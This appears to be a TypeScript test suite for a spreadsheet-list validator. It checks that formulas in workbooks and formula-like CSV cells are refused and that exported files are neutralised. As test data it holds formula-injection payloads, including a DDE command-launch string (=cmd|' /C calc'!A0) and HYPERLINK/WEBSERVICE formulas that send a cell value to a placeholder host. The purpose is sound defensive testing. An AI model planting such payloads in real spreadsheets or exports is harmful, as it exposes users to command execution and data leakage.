import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { formatReport, validateListFile, writeInspectorPack, type ListReport } from '../../src/lists';
import { csvField, formulaLike, neutraliseCell } from '../../src/lists/safe-cells';
import { neutraliseWorkbook } from '../../src/lists/safe-workbook';
import { syntheticHeaders } from '../../src/lists/synthetic';
import { cleanRows, OPTS, readZip, tempDir, writeText, writeXlsx, type CellIn } from './helpers';

let dir: string;
let cleanup: () => Promise<void>;
let n = 0;
beforeAll(async () => ({ dir, cleanup } = await tempDir()));
afterAll(() => cleanup());

const HYPERLINK = { formula: 'HYPERLINK("http://example.org/x?"&A2,"Open")', result: 'Open' };
const WEBSERVICE = { formula: 'WEBSERVICE("http://example.org/?"&A2)', result: '' };
const formulas = (r: ListReport) => r.findings.filter((f) => f.code === 'formula');
const where = (r: ListReport) => formulas(r).map((f) => f.message.split(':')[0]);
const refusal = (row: number, message: string) => ({
  row,
  column: '',
  code: 'formula',
  severity: 'error',
  message,
});

async function workbook(sheets: { name: string; rows: CellIn[][] }[]): Promise<ListReport> {
  const p = await writeXlsx(join(dir, `f${n++}.xlsx`), sheets);
  return validateListFile('6', p, OPTS);
}

describe('a workbook with a formula in any cell of any sheet is refused, with the cell', () => {
  test('HYPERLINK in a column with no header', async () => {
    const rows = cleanRows('6', 3);
    rows[2]?.push(null, HYPERLINK); // row 3, column R (16 list columns, then Q empty)
    const r = await workbook([{ name: 'List 6', rows }]);
    expect(r.valid).toBe(false);
    expect(formulas(r)).toEqual([
      refusal(
        3,
        'Sheet 1, cell R3: formulas are not accepted; paste values only (Copy, then Paste Special > Values).',
      ),
    ]);
    // Said where, never what.
    expect(JSON.stringify(r.findings)).not.toMatch(/HYPERLINK|example\.org/);
  });

  test('WEBSERVICE above the header row', async () => {
    const rows: CellIn[][] = [['List 6 (synthetic)', null, WEBSERVICE], [], ...cleanRows('6', 2)];
    const r = await workbook([{ name: 'List 6', rows }]);
    expect(r.rows).toBe(2);
    expect(where(r)).toEqual(['Sheet 1, cell C1']);
  });

  test('on a second sheet, after the list; and on a cover sheet before it', async () => {
    const row14: CellIn[] = [];
    row14[19] = WEBSERVICE; // T14
    const notes: CellIn[][] = [];
    notes[13] = row14;
    const after = await workbook([
      { name: 'List 6', rows: cleanRows('6', 2) },
      { name: 'Notes', rows: notes },
    ]);
    expect(after.rows).toBe(2);
    expect(where(after)).toEqual(['Sheet 2, cell T14']);
    expect(formulas(after)[0]?.message).toMatch(
      /^Sheet 2, cell T14: formulas are not accepted; paste values only/,
    );

    const before = await workbook([
      { name: 'Cover', rows: [['Synthetic'], [HYPERLINK]] },
      { name: 'List 6', rows: cleanRows('6', 2) },
    ]);
    expect(where(before)).toEqual(['Sheet 1, cell A2']);
    expect(before.valid).toBe(false);
  });

  test('in the header row, and under a header the list does not have', async () => {
    const rows = cleanRows('6', 2);
    rows[0]?.push('Notes', { formula: '1+1', result: 2 });
    rows[1]?.push(HYPERLINK);
    const r = await workbook([{ name: 'List 6', rows }]);
    expect(where(r)).toEqual(['Sheet 1, cell R1', 'Sheet 1, cell Q2']);
  });

  test('shared formulas: every cell of the range, not only the first', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('List 6');
    cleanRows('6', 3).forEach((row) => ws.addRow(row));
    ws.getCell('R2').value = { formula: 'A2&"x"', result: 'SYN0001x' };
    ws.getCell('R3').value = { sharedFormula: 'R2', result: 'SYN0002x' };
    ws.getCell('R4').value = { sharedFormula: 'R2', result: 'SYN0003x' };
    const p = join(dir, 'shared.xlsx');
    await wb.xlsx.writeFile(p);
    const r = await validateListFile('6', p, OPTS);
    expect(where(r)).toEqual(['Sheet 1, cell R2', 'Sheet 1, cell R3', 'Sheet 1, cell R4']);
  });

  test('a formula in a list column keeps its column message', async () => {
    const rows = cleanRows('6', 2);
    const r2 = rows[1];
    if (r2) r2[13] = HYPERLINK; // Allocated team
    const r = await workbook([{ name: 'List 6', rows }]);
    expect(r.findings.map((f) => `${f.code}@${f.row}:${f.column}`)).toEqual(['formula@2:Allocated team']);
  });

  test('the report lists them with the file, not under a column', async () => {
    const rows = cleanRows('6', 2);
    rows[1]?.push(null, HYPERLINK);
    const text = formatReport(await workbook([{ name: 'List 6', rows }]));
    expect(text).toMatch(
      /The file and its header row:\n {2}ERROR: Sheet 1, cell R2: formulas are not accepted/,
    );
  });
});

describe('a CSV cell a spreadsheet would run as a formula is refused, wherever it is', () => {
  const header = syntheticHeaders('6');
  const row = (id: string) =>
    `${id},b) Female,WBRI,10/05/2015,,10,N,03/11/2025,N1,01/02/2026,,,,Team 1,Worker 1,Y`;
  const csv = (lines: string[]) => lines.join('\r\n') + '\r\n';

  test(`=cmd|' /C calc'!A0 in a column with no header`, async () => {
    const p = await writeText(
      join(dir, 'dde.csv'),
      csv([header.map((h) => `"${h}"`).join(','), row('SYN0001'), `${row('SYN0002')},,=cmd|' /C calc'!A0`]),
    );
    const r = await validateListFile('6', p, OPTS);
    expect(r.valid).toBe(false);
    expect(formulas(r)).toEqual([
      refusal(
        3,
        'Cell R3 starts with "=", which a spreadsheet would run as a formula: formulas are not accepted. Remove that first character, or the value.',
      ),
    ]);
    expect(JSON.stringify(r.findings)).not.toMatch(/cmd|calc/);
  });

  test('above the header, in the header row, under an extra header; tabs and carriage returns', async () => {
    const p = await writeText(
      join(dir, 'places.csv'),
      csv([
        '@SUM(1+1)',
        [...header.map((h) => `"${h}"`), 'Notes', '+x'].join(','),
        `${row('SYN0001')},"\tfoo"`,
        `${row('SYN0002')},"\r=1"`,
      ]),
    );
    const r = await validateListFile('6', p, OPTS);
    expect(formulas(r).map((f) => f.message.replace(/, which.*/, ''))).toEqual([
      'Cell A1 starts with "@"',
      'Cell R2 starts with "+"',
      'Cell Q3 starts with a tab',
      'Cell Q4 starts with a carriage return',
    ]);
  });

  test('numbers, dates and a lone dash are not formulas', async () => {
    const p = await writeText(
      join(dir, 'fine.csv'),
      csv([
        [...header.map((h) => `"${h}"`), 'Notes', 'More', 'Other'].join(','),
        `${row('SYN0001')},-5,+3.5,-`,
        `${row('SYN0002')},"\t12",-1,1,000`,
        `${row('SYN0003')},2025-11-03,"  03/11/2025",--`,
      ]),
    );
    const r = await validateListFile('6', p, OPTS);
    expect(formulas(r)).toEqual([]);
    expect(r.valid).toBe(true);
  });
});

describe('what jtai writes is neutralised by one function', () => {
  test('formulaLike, neutraliseCell and csvField', () => {
    for (const s of ['=1+1', '+44 7700', '-team', '@x', '\tfoo', '\r=1', ' =1', "=cmd|' /C calc'!A0"])
      expect([s, formulaLike(s), neutraliseCell(s)]).toEqual([s, true, `'${s}`]);
    for (const s of ['SYN0001', '-5', '+3.5', '1,000', '-', '---', '03/11/2025', '2025-11-03', '', 'a=b'])
      expect([s, formulaLike(s), neutraliseCell(s)]).toEqual([s, false, s]);
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('-1')).toBe('-1');
    expect(csvField('a,b')).toBe('"a,b"');
  });

  test('every text cell of a workbook', () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('S');
    ws.addRow(['=1+1', 'plain', -5, '-5', '@x']);
    wb.addWorksheet('T').getCell('C3').value = '+cmd';
    neutraliseWorkbook(wb);
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(["'=1+1", 'plain', -5, '-5', "'@x"]);
    expect(wb.getWorksheet('T')?.getCell('C3').value).toBe("'+cmd");
  });

  test('the pack index (CSV and HTML) shows formula-like names as text', async () => {
    const f = await writeText(join(dir, 'f.bin'), 'x');
    const sha = '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881';
    const out = join(dir, 'pack.zip');
    await writeInspectorPack(
      {
        title: 'pack',
        facts: [],
        covers: [],
        rows: [
          {
            section: '=section',
            agency: '@agency',
            title: '-x',
            status: 'received',
            file: {
              folder: ['=deliverable', '@agency'],
              name: '-x',
              extension: '.docx',
              path: f,
              sha256: sha,
            },
          },
        ],
      },
      out,
    );
    const zip = readZip(out);
    const csvText = zip.get('index.csv')?.toString() ?? '';
    expect(csvText.split('\r\n')[1]).toMatch(
      /^'=section,'@agency,,'-x,received,,,'=deliverable\/@agency\/-x\.docx,/,
    );
    const html = zip.get('index.html')?.toString() ?? '';
    expect(html).toContain('<h2>&#39;=section</h2>');
    expect(html).toContain('<td>&#39;@agency</td><td></td><td>&#39;-x</td>');
    expect(html).toContain('<a href="%3Ddeliverable/%40agency/-x.docx">&#39;-x.docx</a>');
  });
});
